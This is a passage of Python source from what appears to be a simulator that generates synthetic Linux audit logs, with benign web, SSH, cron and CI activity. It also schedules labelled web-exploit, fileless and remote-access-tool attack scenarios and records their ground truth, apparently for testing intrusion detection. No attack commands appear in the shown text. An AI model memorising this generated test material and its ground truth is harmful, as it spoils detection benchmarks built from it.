        self.exec_mark = (self.start, 0, 0)  # (ts, pid, serial) of the last execve
        self.n_events = self.n_lines = self.n_user = 0
        self.ptys: set[int] = set()
        self.attacks: list[_Attack] = []
        self.initial: list[InitialProcess] = []
        self.client_ips = [f"{r.choice(_CLIENT_NETS)}{r.between(1, 254)}" for _ in range(300)]
        self.static_cum = list(itertools.accumulate(w for _, w, _ in _STATIC))
        self.php_cum = list(itertools.accumulate(w for _, w in _PHP))
        for path, _, size in _STATIC:
            if size == 0:
                self.missing.add("/var/www/html/" + path)
        self.sizes = {"/var/www/html/" + p: s for p, _, s in _STATIC if s}
        self._boot()

    # ----- scheduling
    def schedule(self, gen, delay: float = 0.0) -> None:
        heapq.heappush(self.heap, (self.now + delay, next(self.heap_seq), gen))

    def run(self) -> Iterator[list[tuple]]:
        """Runs the activities in time order; yields the events of each burst."""
        heap, end = self.heap, self.end
        if self.out:  # the boot
            yield self.out
            self.out = []
        while heap:
            t, _, gen = heap[0]
            if t >= end:
                break
            heapq.heappop(heap)
            if t > self.now:
                self.now = t
            try:
                delay = next(gen)
            except StopIteration:
                delay = None
            if delay is not None:
                heapq.heappush(heap, (self.now + delay, next(self.heap_seq), gen))
            if self.out:
                yield self.out
                self.out = []

    def truth(self) -> Truth:
        return Truth(
            seed=self.seed,
            start_ts=round(self.start, 3),
            end_ts=round(self.last_ts, 3),
            n_lines=self.n_lines,
            n_events=self.n_events,
            n_user_records=self.n_user,
            n_processes=len(self.procs),
            attacks=[a.truth() for a in self.attacks],
            initial_processes=list(self.initial),
        )

    # ----- emission
    def _sys(
        self,
        p: _Proc,
        no: int,
        ok,
        ex: int,
        a0: int,
        a1: int,
        a2: int,
        a3: int,
        paths: tuple = (),
        aux: tuple = (),
    ) -> None:
        """Appends one kernel event of process ``p`` (``ok=None``: no success/exit)."""
        if not p.alive:
            raise _SimError(f"pid {p.pid} ({p.comm}) is dead")
        if self.silent:
            return
        r = self.r
        self.now += 2e-5 + r.u() * 4e-4
        self.serial += 1
        eoe = r.u() >= self.missing_eoe
        self.out.append(
            (
                self.now,
                self.serial,
                no,
                ok,
                ex,
                a0,
                a1,
                a2,
                a3,
                p.tail,
                p.cwd if paths else None,
                paths,
                aux,
                p.title,
                eoe,
            )
        )
        self.n_events += 1
        self.n_lines += 2 + len(aux) + eoe + (len(paths) + 1 if paths else 0)
        self.last_pid = p.pid
        self.last_ts = self.now
        tag = p.tag
        if tag is not None:
            tag.n_events += 1
            tag.last_ts = self.now

    def _user(self, typ: str, p: _Proc, msg: str, raw: str | None = None) -> None:
        """Appends one user-space record (PAM, login, sudo, systemd): no EOE."""
        if self.silent:
            return
        self.now += 2e-5 + self.r.u() * 2e-4
        self.serial += 1
        body = (
            raw
            if raw is not None
            else (f"pid={p.pid} uid={p.uid} auid={p.auid} ses={p.ses} subj=unconfined msg='{msg}'")
        )
        self.out.append((self.now, self.serial, typ, body))
        self.n_user += 1
        self.n_lines += 1
        self.last_pid = p.pid
        self.last_ts = self.now
        if p.tag is not None:
            p.tag.last_ts = self.now

    def _session_open(
        self, p: _Proc, user: str, uid: int, exe: str, addr: str, terminal: str
    ) -> None:
        """A new login session for ``p``: LOGIN (audit uid and session set), USER_START."""
        ses = self.next_ses
        self.next_ses += 1
        self._user(
            "LOGIN",
            p,
            "",
            raw=(
                f"pid={p.pid} uid=0 subj=unconfined old-auid={_UNSET} auid={uid} tty=(none) "
                f"old-ses={_UNSET} ses={ses} res=1"
            ),
        )
        p.auid, p.ses = uid, ses
        p.retail()
        self._pam("USER_START", p, "PAM:session_open", user, exe, addr, addr, terminal)

    def _pam(
        self,
        typ: str,
        p: _Proc,
        op: str,
        acct: str,
        exe: str,
        host: str,
        addr: str,
        term: str,
        ok: bool = True,
    ) -> None:
        self._user(
            typ,
            p,
            f'op={op} acct="{acct}" exe="{exe}" hostname={host} addr={addr} '
            f"terminal={term} res={'success' if ok else 'failed'}",
        )

    def step(self, a: _Attack, name: str, at: tuple | None = None) -> None:
        """Records attack step ``name`` at the last emitted event (or at ``at``).

        ``at``: ``(ts, pid, serial)`` of an earlier event, e.g. ``self.exec_mark``.
        """
        if self.silent:
            return
        ts, pid, serial = at if at is not None else (self.now, self.last_pid, self.serial)
        a.steps.append(Step(name, round(ts, 3), pid, serial))
        if a.first_ts is None:
            a.first_ts = round(ts, 3)
        a.last_ts = max(a.last_ts, self.now)

    # ----- files
    def _abs(self, p: _Proc, path: str) -> str:
        if path[0] == "/":
            return path
        return posixpath.normpath(p.cwd + "/" + path)

    def _new_ino(self) -> int:
        self.next_ino += 1 + self.r.below(40)
        return self.next_ino

    def _mk(self, path: str, mode: int, uid: int, gid: int, rdev: str = "00:00") -> tuple:
        ino = self._new_ino()
        ent = (
            ino,
            mode,
            uid,
            gid,
            f"inode={ino} dev={_dev_of(path)} mode=0{mode:o} ouid={uid} ogid={gid} rdev={rdev}",
        )
        self.fs[path] = ent
        self.missing.discard(path)
        return ent

    def _file(self, path: str) -> tuple:
        """The entry of an existing file (created lazily: it existed before the log)."""
        ent = self.fs.get(path)
        if ent is None:
            mode, uid, gid, rdev = _attrs_of(path)
            ent = self._mk(path, mode, uid, gid, rdev)
        return ent

    def _dir(self, path: str) -> tuple:
        ent = self.fs.get(path)
        if ent is None:
            uid = 0
            if path.startswith("/home/") and path.count("/") >= 2:
                uid = USERS.get(path.split("/")[2], (0, 0, ""))[0]
            mode = 0o41777 if path in ("/tmp", "/var/tmp", "/dev/shm") else 0o40755
            ent = self._mk(path, mode, uid, uid)
        return ent

    def exists(self, path: str) -> bool:
        return path in self.fs or (path not in self.missing and not path.startswith("/tmp/"))

    def _parent_item(self, p: _Proc, name: str, apath: str) -> tuple:
        i = name.rfind("/")
        pname = name[: i + 1] if i >= 0 else p.cwd
        d = posixpath.dirname(apath) or "/"
        return (pname, self._dir(d)[4], "PARENT")

    # ----- system calls
    def fork(
        self, p: _Proc, tag: _Attack | None | bool = False, flags: int = _FORK_FLAGS, no: int = 56
    ) -> _Proc:
        """clone/fork: a child with a copy of ``p``'s fds; ``tag`` starts an attack."""
        self.next_pid += 1 + (self.r.below(4) if self.r.u() < 0.1 else 0)
        pid = self.next_pid
        self._sys(p, no, True, pid, flags, 0, 0, p.ptr + 0xA10, (), ())
        c = _Proc.__new__(_Proc)
        c.pid, c.ppid = pid, p.pid
        c.uid, c.gid, c.euid, c.egid = p.uid, p.gid, p.euid, p.egid
        c.auid, c.ses, c.tty = p.auid, p.ses, p.tty
        c.comm, c.exe, c.argv, c.cwd = p.comm, p.exe, p.argv, p.cwd
        c.fds = dict(p.fds)
        c.alive, c.ptr, c.children, c.x = True, p.ptr, [], {}
        c.tag = p.tag if tag is False else tag
        if c.tag is not None:
            c.tag.pids.add(pid)
            if p.tag is None:
                c.tag.entry.add(p.pid)
        c.retail()
        p.children.append(c)
        self.procs[pid] = c
        return c

    def thread(self, p: _Proc) -> None:
        """pthread_create: a clone with CLONE_THREAD (events stay under ``p.pid``)."""
        self.next_pid += 1
        self._sys(
            p, 56, True, self.next_pid, _THREAD_FLAGS, p.ptr - 0x800000, 0, p.ptr + 0xB00, (), ()
        )

    def thread_exit(self, p: _Proc) -> None:
        self._sys(p, 60, None, 0, 0, 0, 0, 0, (), ())

    def execve(
        self,
        p: _Proc,
        path: str,
        argv: list[str],
        *,
        script: str = "",
        static: bool = False,
        image: str = "",
        euid: int = -1,
        egid: int = -1,
    ) -> None:
        """execve ``path``.

        Args:
          p: the process; its image, comm, argv and close-on-exec fds change.
          path: the name passed to execve (``/proc/self/fd/N`` runs that fd's file).
          argv: the new argv (``EXECVE`` and ``PROCTITLE``).
          script: the ``#!`` interpreter when ``path`` is a script (it becomes exe).
          static: no loader (no ld.so ``PATH`` item, no libc open/mmap).
          image: exe override (a memfd image).
          euid, egid: set-user/group-id image (sudo, pkexec, crontab); -1: unchanged.
        """
        apath = self._abs(p, path)
        real = _REAL.get(apath, apath)
        if apath.startswith("/proc/self/fd/"):
            real = self._fd(p, int(apath[14:]))[1]
        items = [(path, self._file(real)[4], "NORMAL")]
        exe = real
        if script:
            ireal = _REAL.get(script, script)
            items.append((script, self._file(ireal)[4], "NORMAL"))
            exe = ireal
        if not static:
            items.append((_LOADER, self._file(_LOADER)[4], "NORMAL"))
        p.exe = image or exe
        if euid >= 0:
            p.euid = euid
        if egid >= 0:
            p.egid = egid
        p.comm = posixpath.basename(path)[:15]
        p.argv = argv
        p.fds = {fd: v for fd, v in p.fds.items() if not v[2]}
        p.ptr = 0x7FFC00000000 + (self.r.below(0x3FFFFFF) << 4)
        p.retail()
        body = f"argc={len(argv)}" + "".join(f" a{i}={encode_value(a)}" for i, a in enumerate(argv))
        self._sys(
            p,
            59,
            True,
            0,
            0x55D000000000 + self.r.below(0xFFFFFF),
            p.ptr + 0x100,
            p.ptr + 0x300,
            0,
            tuple(items),
            (("EXECVE", body),),
        )
        self.exec_mark = (self.now, p.pid, self.serial)
        if not static:
            fd = self.open(p, _LIBC)
            self.read(p, fd, 832)
            self.mmap(p, fd)
            self.close(p, fd)

    def exit(self, p: _Proc, status: int = 0) -> None:
        """exit_group; live children are re-parented to pid 1."""
        self._sys(p, 231, None, 0, status, 0x3C, 0, 0, (), ())
        p.alive = False
        p.fds = {}
        for c in p.children:
            if c.alive:
                c.ppid = 1
                c.retail()
        p.children = []

    def open(
        self,
        p: _Proc,
        path: str,
        flags: int = O_RDONLY | O_CLOEXEC,
        mode: int = 0o666,
        *,
        errno: int = 0,
        no: int = 257,
    ) -> int:
        """open/openat: the new fd, or ``-errno`` (ENOENT for a missing file)."""
        apath = self._abs(p, path)
        ptr = p.ptr + 0x1A0
        if no == 257:
            a0, a1, a2, a3 = _AT_FDCWD, ptr, flags, (mode if flags & O_CREAT else 0)
        else:
            a0, a1, a2, a3 = ptr, flags, (mode if flags & O_CREAT else 0), 0
        creat = flags & O_CREAT
        ent = self.fs.get(apath)
        if not errno and ent is None and not creat and apath in self.missing:
            errno = 2
        if errno:
            if ent is None and errno == 2:
                item = (path, None, "UNKNOWN")
            else:
                item = (path, (ent or self._file(apath))[4], "NORMAL")
            self._sys(p, no, False, -errno, a0, a1, a2, a3, (item,), ())
            return -errno
        if creat:
            parent = self._parent_item(p, path, apath)
            if ent is None:
                um = 0o022 if p.euid == 0 else 0o002 if p.euid >= 1000 else 0o022
                ent = self._mk(apath, 0o100000 | (mode & ~um & 0o7777), p.euid, p.egid)
                items = (parent, (path, ent[4], "CREATE"))
            else:
                items = (parent, (path, ent[4], "NORMAL"))
        else:
            ent = ent or self._file(apath)
            items = ((path, ent[4], "NORMAL"),)
        fds = p.fds
        fd = 0
        while fd in fds:
            fd += 1
        self._sys(p, no, True, fd, a0, a1, a2, a3, items, ())
        fds[fd] = ("file", apath, bool(flags & O_CLOEXEC))
        if (
            p.tag is not None
            and flags & 3
            and (not apath.startswith("/dev/") or apath.startswith("/dev/shm/"))
        ):
            p.tag.files.add(apath)
        return fd

    def _fd(self, p: _Proc, fd: int) -> tuple:
        v = p.fds.get(fd)
        if v is None:
            raise _SimError(f"pid {p.pid} ({p.comm}) uses fd {fd} that is not open")
        return v

    def _newfd(self, p: _Proc) -> int:
        fds = p.fds
        fd = 0
        while fd in fds:
            fd += 1
        return fd

    def read(self, p: _Proc, fd: int, n: int, no: int = 0) -> None:
        self._fd(p, fd)
        self._sys(p, no, True, n, fd, p.ptr + 0x2000, 0x2000 if n <= 0x2000 else n, 0, (), ())

    def write(self, p: _Proc, fd: int, n: int, no: int = 1) -> None:
        self._fd(p, fd)
        self._sys(p, no, True, n, fd, p.ptr + 0x2000, 2 if no == 20 else n, 0, (), ())

    def send(self, p: _Proc, fd: int, n: int) -> None:
        self._fd(p, fd)
        self._sys(p, 44, True, n, fd, p.ptr + 0x3000, n, 0x4000, (), ())

    def recv(self, p: _Proc, fd: int, n: int) -> None:
        self._fd(p, fd)
        self._sys(p, 45, True, n, fd, p.ptr + 0x3000, 0x10000, 0, (), ())

    def close(self, p: _Proc, fd: int) -> None:
        self._fd(p, fd)
        self._sys(p, 3, True, 0, fd, 0, 0, 0, (), ())
        del p.fds[fd]

    def mmap(self, p: _Proc, fd: int) -> None:
        self._fd(p, fd)
        addr = 0x7F0000000000 + (self.r.below(0xFFFFFF) << 12)
        self._sys(
            p,
            9,
            True,
            addr,
            0,
            0x1D000 + (self.r.below(64) << 12),
            5,
            0x802,
            (),
            (("MMAP", f"fd={fd} flags=0x802"),),
        )

    def socket(self, p: _Proc, family: int = 2, typ: int = 0x80001, listen: str = "") -> int:
        """socket(); ``listen``: the address it is bound to and listens on (bind and
        listen are not audited), kept in the fd table as ``listen:<addr>``."""
        fd = self._newfd(p)
        self._sys(p, 41, True, fd, family, typ, 6 if family == 2 else 0, 0, (), ())
        p.fds[fd] = ("sock", f"listen:{listen}" if listen else "", bool(typ & O_CLOEXEC))
        return fd

    def connect(self, p: _Proc, fd: int, ip: str, port: int, errno: int = 0) -> None:
        """connect an AF_INET socket (``ip``) or an AF_UNIX one (``port=0``, ``ip`` = path)."""
        kind, _, cloexec = self._fd(p, fd)
        if port:
            sa, name, ln = sockaddr_hex(ip, port), f"{ip}:{port}", 16
        else:
            sa, name, ln = unix_sockaddr_hex(ip), f"unix:{ip}", 3 + len(ip)
        self._sys(
            p, 42, not errno, -errno, fd, p.ptr + 0x3100, ln, 0, (), (("SOCKADDR", f"saddr={sa}"),)
        )
        if not errno:
            p.fds[fd] = ("sock", name, cloexec)
            if p.tag is not None and port:
                p.tag.sockets.add(name)

    def accept(self, p: _Proc, lfd: int, ip: str, port: int) -> int:
        """accept4 on listening ``lfd``; ``port=0``: an unnamed AF_UNIX peer."""
        self._fd(p, lfd)
        fd = self._newfd(p)
        if port:
            sa, name = sockaddr_hex(ip, port), f"{ip}:{port}"
        else:
            sa, name = unix_sockaddr_hex(""), f"unix:{ip}"
        self._sys(
            p,
            288,
            True,
            fd,
            lfd,
            p.ptr + 0x3200,
            p.ptr + 0x3280,
            0x80800,
            (),
            (("SOCKADDR", f"saddr={sa}"),),
        )
        p.fds[fd] = ("sock", name, True)
        return fd

    def pipe(self, p: _Proc, flags: int = O_CLOEXEC) -> tuple[int, int]:
        """pipe2: ``(read_fd, write_fd)`` with an FD_PAIR record."""
        fds = p.fds
        r = 0
        while r in fds:
            r += 1
        w = r + 1
        while w in fds:
            w += 1
        self.next_pipe += 1 + self.r.below(8)
        name = f"pipe:[{self.next_pipe}]"
        self._sys(
            p, 293, True, 0, p.ptr + 0x3300, flags, 0, 0, (), (("FD_PAIR", f"fd0={r} fd1={w}"),)
        )
        fds[r] = ("pipe", name, bool(flags & O_CLOEXEC))
        fds[w] = ("pipe", name, bool(flags & O_CLOEXEC))
        return r, w

    def dup2(self, p: _Proc, old: int, new: int) -> None:
        kind, name, _ = self._fd(p, old)
        self._sys(p, 33, True, new, old, new, 0, 0, (), ())
        p.fds[new] = (kind, name, False)

    def memfd(self, p: _Proc, name: str) -> int:
        fd = self._newfd(p)
        self._sys(p, 319, True, fd, p.ptr + 0x3400, 0, 0, 0, (), ())
        path = f"/memfd:{name} (deleted)"
        self._mk(path, 0o100777, p.euid, p.egid)
        p.fds[fd] = ("memfd", path, False)
        return fd

    def chmod(self, p: _Proc, path: str, mode: int) -> None:
        """fchmodat(AT_FDCWD, path, mode) (coreutils chmod); PATH shows the old mode."""
        apath = self._abs(p, path)
        ent = self._file(apath)
        self._sys(
            p, 268, True, 0, _AT_FDCWD, p.ptr + 0x1A0, mode, 0, ((path, ent[4], "NORMAL"),), ()
        )
        self._chmod_fs(apath, ent, mode)

    def _chmod_fs(self, apath: str, ent: tuple, mode: int) -> None:
        ino, old, uid, gid, pre = ent
        new = (old & ~0o7777) | mode
        self.fs[apath] = (ino, new, uid, gid, pre.replace(f"mode=0{old:o}", f"mode=0{new:o}"))

    def fchmod(self, p: _Proc, fd: int, mode: int) -> None:
        _, apath, _ = self._fd(p, fd)
        self._sys(p, 91, True, 0, fd, mode, 0, 0, (), ())
        self._chmod_fs(apath, self._file(apath), mode)

    def unlink(self, p: _Proc, path: str, no: int = 263) -> None:
        apath = self._abs(p, path)
        ent = self._file(apath)
        items = (self._parent_item(p, path, apath), (path, ent[4], "DELETE"))
        if no == 263:
            self._sys(p, 263, True, 0, _AT_FDCWD, p.ptr + 0x1A0, 0, 0, items, ())
        else:
            self._sys(p, 87, True, 0, p.ptr + 0x1A0, 0, 0, 0, items, ())
        del self.fs[apath]
        self.missing.add(apath)

    def rename(self, p: _Proc, old: str, new: str, no: int = 82, replace: bool = False) -> None:
        """rename/renameat2: PARENT, PARENT, DELETE old, [DELETE target], CREATE new.

        ``replace``: the target existed before the log (a pre-installed file) even
        if the simulation never touched it; targets it knows about are replaced anyway.
        """
        aold, anew = self._abs(p, old), self._abs(p, new)
        ent = self._file(aold)
        items = [
            self._parent_item(p, old, aold),
            self._parent_item(p, new, anew),
            (old, ent[4], "DELETE"),
        ]
        target = self.fs.get(anew)
        if target is None and replace and anew not in self.missing:
            target = self._file(anew)
        if target is not None:
            items.append((new, target[4], "DELETE"))
        items.append((new, ent[4], "CREATE"))
        if no == 82:
            self._sys(p, 82, True, 0, p.ptr + 0x1A0, p.ptr + 0x1C0, 0, 0, tuple(items), ())
        else:
            self._sys(
                p, no, True, 0, _AT_FDCWD, p.ptr + 0x1A0, _AT_FDCWD, p.ptr + 0x1C0, tuple(items), ()
            )
        del self.fs[aold]
        self.missing.add(aold)
        self.fs[anew] = ent
        if p.tag is not None:
            p.tag.files.add(anew)
        self.missing.discard(anew)

    # ----- process helpers (no simulated time passes)
    def setuid(self, p: _Proc, user: str) -> None:
        p.uid = p.euid = USERS[user][0]
        p.gid = p.egid = USERS[user][1]
        p.retail()

    def spawn(
        self,
        parent: _Proc,
        path: str,
        argv: list[str],
        *,
        tag=False,
        stdin: int = -1,
        stdout: int = -1,
        close: tuple = (),
        user: str = "",
        cwd: str = "",
        script: str = "",
        static: bool = False,
        euid: int = -1,
        egid: int = -1,
        flags: int = _FORK_FLAGS,
    ) -> _Proc:
        """fork + (dup2 stdin/stdout, close fds, setuid, chdir) + execve; returns the child.

        ``tag``: ``False`` inherits the parent's attack tag, else the child's tag.
        """
        c = self.fork(parent, tag, flags)
        if stdin >= 0:
            self.dup2(c, stdin, 0)
        if stdout >= 0:
            self.dup2(c, stdout, 1)
        for fd in close:
            if fd in c.fds:
                self.close(c, fd)
        if user:
            self.setuid(c, user)
        if cwd:
            c.cwd = cwd
        self.execve(c, path, argv, script=script, static=static, euid=euid, egid=egid)
        return c

    def capture(self, parent: _Proc, path: str, argv: list[str], **kw) -> tuple[_Proc, int]:
        """popen (glibc: posix_spawn, a vfork clone): a child whose stdout is a pipe.

        Returns ``(child, read_fd)``.
        """
        r, w = self.pipe(parent)
        kw.setdefault("flags", _SPAWN_FLAGS)
        c = self.spawn(parent, path, argv, stdout=w, close=(r, w), **kw)
        self.close(parent, w)
        return c, r

    def feed(self, parent: _Proc, path: str, argv: list[str], **kw) -> tuple[_Proc, int]:
        """fork + execve of a child whose stdin is a pipe from ``parent`` (the twin of
        :meth:`capture`). Returns ``(child, write_fd)``; ``kw`` as :meth:`spawn`."""
        r, w = self.pipe(parent)
        c = self.spawn(parent, path, argv, stdin=r, close=(r, w), **kw)
        self.close(parent, r)
        return c, w

    def read_file(
        self, p: _Proc, path: str, size: int = 0, flags: int = O_RDONLY | O_CLOEXEC, errno: int = 0
    ) -> bool:
        """open + read (in up to 64 KiB chunks) + close; False if the open failed."""
        fd = self.open(p, path, flags, errno=errno)
        if fd < 0:
            return False
        size = size or 600 + self.r.below(3000)
        while size > 0:
            n = min(size, 65536)
            self.read(p, fd, n)
            size -= n
        self.read(p, fd, 0)
        self.close(p, fd)
        return True

    def write_file(
        self,
        p: _Proc,
        path: str,
        size: int,
        flags: int = O_WRONLY | O_CREAT | O_TRUNC,
        mode: int = 0o666,
        chunk: int = 65536,
    ) -> None:
        fd = self.open(p, path, flags | O_CLOEXEC, mode)
        while size > 0:
            n = min(size, chunk)
            self.write(p, fd, n)
            size -= n
        self.close(p, fd)

    def new_pid_proc(
        self, pid: int, ppid: int, user: str, exe: str, argv: list[str], cwd: str, comm: str = ""
    ) -> _Proc:
        uid, gid, _ = USERS[user]
        p = _Proc(pid, ppid, uid, gid, exe, comm or posixpath.basename(exe)[:15], argv, cwd)
        self.procs[pid] = p
        return p

    # ----- addresses
    def client_ip(self) -> str:
        return self.client_ips[int(len(self.client_ips) * self.r.u() ** 2.5)]

    def attacker_ip(self) -> str:
        r = self.r
        if r.chance(0.5):
            return f"45.{r.between(9, 155)}.{r.between(1, 254)}.{r.between(1, 254)}"
        second = r.between(100, 249)
        second += second >= 199  # 185.199.x is GitHub's CDN (benign traffic)
        return f"185.{second}.{r.between(1, 254)}.{r.between(1, 254)}"

    def eport(self) -> int:
        return self.r.between(32768, 60999)

    # ===== boot ========================================================================
    def _boot(self) -> None:
        """systemd (pid 1) and the services; silent (pre-existing) unless ``cfg.boot``."""
        cfg = self.cfg
        sd = self.new_pid_proc(
            1, 0, "root", "/usr/lib/systemd/systemd", ["/sbin/init"], "/", "systemd"
        )
        self.systemd = sd
        for fd in range(3):
            sd.fds[fd] = ("file", "/dev/null", False)
        sd.fds[3] = ("sock", "listen:unix:/run/systemd/private", True)
        sd.x["listen"] = 3
        self._record_initial(sd)
        self.silent = not cfg.boot
        self.cron = self._start_service("cron", "/usr/sbin/cron", ["/usr/sbin/cron", "-f"])
        self.cron.x["pidfd"] = self.open(
            self.cron, "/run/crond.pid", O_RDWR | O_CREAT | O_CLOEXEC, 0o644
        )
        self.write(self.cron, self.cron.x["pidfd"], 4)
        self._start_mariadb()
        self._start_php()
        self._start_nginx()
        self._start_sshd()
        if cfg.ci_poll_s > 0:
            self.runner = self._start_service(
                "gitlab-runner",
                "/usr/bin/gitlab-runner",
                [
                    "/usr/bin/gitlab-runner",
                    "run",
                    "--working-directory",
                    "/home/gitlab-runner",
                    "--config",
                    "/etc/gitlab-runner/config.toml",
                    "--service",
                    "gitlab-runner",
                    "--user",
                    "gitlab-runner",
                ],
            )
            self.read_file(self.runner, "/etc/gitlab-runner/config.toml", 900)
        if self.silent:
            self.silent = False
            for p in sorted(self.procs.values(), key=lambda q: q.pid):
                if p.pid != 1 and p.alive:
                    self._record_initial(p)
            # the host has been up for a while: pids, sessions and serials moved on
            self.next_pid += 20_000 + self.r.below(200_000)
            self.next_ses += 10 + self.r.below(200)
            self.serial += 1_000_000 + self.r.below(9_000_000)
        self._schedule_activities()

    def _record_initial(self, p: _Proc) -> None:
        self.initial.append(
            InitialProcess(
                pid=p.pid,
                ppid=p.ppid,
                uid=p.uid,
                exe=p.exe,
                comm=p.comm,
                cmdline=" ".join(p.argv),
                cwd=p.cwd,
                fds={fd: f"{k}:{n}" for fd, (k, n, _) in sorted(p.fds.items())},
            )
        )

    def _start_service(self, unit: str, path: str, argv: list[str]) -> _Proc:
        sd = self.systemd
        self._user(
            "SERVICE_START",
            sd,
            "",
            raw=(
                f"pid=1 uid=0 auid={_UNSET} ses={_UNSET} subj=unconfined msg='unit={unit} "
                'comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? '
                "res=success'"
            ),
        )
        p = self.fork(sd, None)
        fd = self.open(p, "/dev/null", O_RDWR)
        self.dup2(p, fd, 0)
        self.dup2(p, fd, 1)
        self.dup2(p, fd, 2)
        self.close(p, fd)
        self.execve(p, path, argv)
        return p

    def _start_mariadb(self) -> None:
        p = self._start_service("mariadb", "/usr/sbin/mariadbd", ["/usr/sbin/mariadbd"])
        self.setuid(p, "mysql")
        p.cwd = "/var/lib/mysql"
        self.read_file(p, "/etc/mysql/mariadb.cnf", 1100)
        p.x["err"] = self.open(p, "/var/log/mysql/error.log", O_WRONLY | O_APPEND | O_CREAT)
        p.x["ibdata"] = self.open(p, "/var/lib/mysql/ibdata1", O_RDWR | O_CLOEXEC)
        p.x["log"] = self.open(p, "/var/lib/mysql/ib_logfile0", O_RDWR | O_CLOEXEC)
        p.x["shop"] = self.open(p, "/var/lib/mysql/shop/items.ibd", O_RDWR | O_CLOEXEC)
        p.x["listen"] = self.socket(p, 1, 0x80001, listen="unix:/run/mysqld/mysqld.sock")
        self.mysqld = p

    def _start_php(self) -> None:
        m = self._start_service(
            "php8.2-fpm",
            "/usr/sbin/php-fpm8.2",
            [
                "/usr/sbin/php-fpm8.2",
                "--nodaemonize",
                "--fpm-config",
                "/etc/php/8.2/fpm/php-fpm.conf",
            ],
        )
        self.read_file(m, "/etc/php/8.2/fpm/php-fpm.conf", 5400)
        self.read_file(m, "/etc/php/8.2/fpm/pool.d/www.conf", 20100)
        self.read_file(m, "/etc/php/8.2/fpm/php.ini", 72000)
        log = self.open(m, "/var/log/php8.2-fpm.log", O_WRONLY | O_APPEND | O_CREAT)
        self.dup2(m, log, 2)
        self.close(m, log)
        listen = self.socket(m, 1, 0x80001, listen="unix:/run/php/php8.2-fpm.sock")
        m.argv = ["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"]
        m.retail()
        self.php_workers = []
        for _ in range(self.cfg.php_workers):
            w = self.fork(m, None)
            self.setuid(w, "www-data")
            w.argv = ["php-fpm: pool www"]
            w.cwd = "/"
            w.retail()
            w.x["listen"] = listen
            self.php_workers.append(w)
        self.php_master = m

    def _start_nginx(self, parent: _Proc | None = None) -> None:
        """nginx -g 'daemon on; master_process on;': daemonise, open logs, fork workers."""
        p = self._start_service(
            "nginx", "/usr/sbin/nginx", ["/usr/sbin/nginx", "-g", "daemon on; master_process on;"]
        )
        self.read_file(p, "/etc/nginx/nginx.conf", 1480)
        self.read_file(p, "/etc/nginx/mime.types", 5340)
        self.read_file(p, "/etc/nginx/sites-enabled/default", 2410)
        err = self.open(p, "/var/log/nginx/error.log", O_WRONLY | O_APPEND | O_CREAT, 0o644)
        acc = self.open(p, "/var/log/nginx/access.log", O_WRONLY | O_APPEND | O_CREAT, 0o644)
        l80 = self.socket(p, 2, 0x80801, listen="0.0.0.0:80")
        l443 = self.socket(p, 2, 0x80801, listen="0.0.0.0:443")
        m = self.fork(p, None)  # daemonise
        self.exit(p)
        self.dup2(m, err, 2)
        self.write_file(m, "/run/nginx.pid", 5, mode=0o644)
        m.argv = ["nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"]
        m.retail()
        m.x.update(access=acc, error=err, listen=l80, listen_tls=l443)
        workers = []
        for _ in range(self.cfg.nginx_workers):
            w = self.fork(m, None)
            self.setuid(w, "www-data")
            w.argv = ["nginx: worker process"]
            w.retail()
            w.x.update(m.x)
            workers.append(w)
        self.nginx_master, self.nginx_workers = m, workers

    def _stop_nginx(self) -> None:
        sd = self.systemd
        for w in self.nginx_workers:
            self.exit(w)
        self.exit(self.nginx_master)
        self._user(
            "SERVICE_STOP",
            sd,
            "",
            raw=(
                f"pid=1 uid=0 auid={_UNSET} ses={_UNSET} subj=unconfined msg='unit=nginx "
                'comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? '
                "res=success'"
            ),
        )

    def _start_sshd(self) -> None:
        p = self._start_service("ssh", "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D"])
        self.read_file(p, "/etc/ssh/sshd_config", 3250)
        for k in ("rsa", "ecdsa", "ed25519"):
            self.read_file(p, f"/etc/ssh/ssh_host_{k}_key", 400 + self.r.below(2000))
        p.x["listen"] = self.socket(p, 2, 0x80001, listen="0.0.0.0:22")
        p.x["listen6"] = self.socket(p, 10, 0x80001, listen="[::]:22")
        p.argv = ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"]
        p.retail()
        self.sshd = p

    # ===== activity scheduling ==========================================================
    def _schedule_activities(self) -> None:
        cfg, r = self.cfg, self.r
        if cfg.web_rps > 0:
            self.schedule(self._web_arrivals(), r.expo(1 / cfg.web_rps))
        if cfg.ssh_per_hour > 0:
            self.schedule(self._ssh_arrivals(), r.expo(3600 / cfg.ssh_per_hour))
        for period, job in (
            (cfg.cron_php_period_s, self._cron_php),
            (cfg.logrotate_period_s, self._cron_logrotate),
            (cfg.backup_period_s, self._cron_backup),
        ):
            if period > 0:
                self.schedule(self._periodic(period, job), r.u() * period)
        if cfg.apt_period_s > 0:
            self.schedule(
                self._periodic(cfg.apt_period_s, self._apt_upgrade), r.u() * cfg.apt_period_s
            )
        if cfg.ci_poll_s > 0:
            self.schedule(self._ci_loop(), r.u() * cfg.ci_poll_s)
        counts: dict[str, int] = {}
        for spec in cfg.attacks:
            i = counts.get(spec.kind, 0)
            counts[spec.kind] = i + 1
            variant = spec.variant or r.choice(_VARIANTS[spec.kind])
            a = _Attack(f"{spec.kind}-{i}", spec.kind, variant)
            self.attacks.append(a)
            gen = {
                "web_exploit": self._atk_web_exploit,
                "fileless": self._atk_fileless,
                "rat": self._atk_rat,
            }[spec.kind](a)
            heapq.heappush(self.heap, (self.start + spec.start_s, next(self.heap_seq), gen))

    def _periodic(self, period: float, job):
        while True:
            self.schedule(job())
            yield period * (0.98 + 0.04 * self.r.u())

    # ===== web ==========================================================================
    def _web_arrivals(self):
        rate = self.cfg.web_rps
        while True:
            self.schedule(self._web_conn(self.client_ip()))
            yield self.r.expo(1 / rate)

    def _web_conn(self, ip: str):
        """One client connection to a worker: keep-alive requests, access-log writes."""
        r, cfg = self.r, self.cfg
        w = r.choice(self.nginx_workers)
        tls = r.chance(0.6)
        cfd = self.accept(w, w.x["listen_tls" if tls else "listen"], ip, self.eport())
        n = 1 + int(r.expo(cfg.keepalive_mean - 1)) if cfg.keepalive_mean > 1 else 1
        for i in range(n):
            self.recv(w, cfd, 320 + r.below(700))
            if r.u() < cfg.php_fraction:
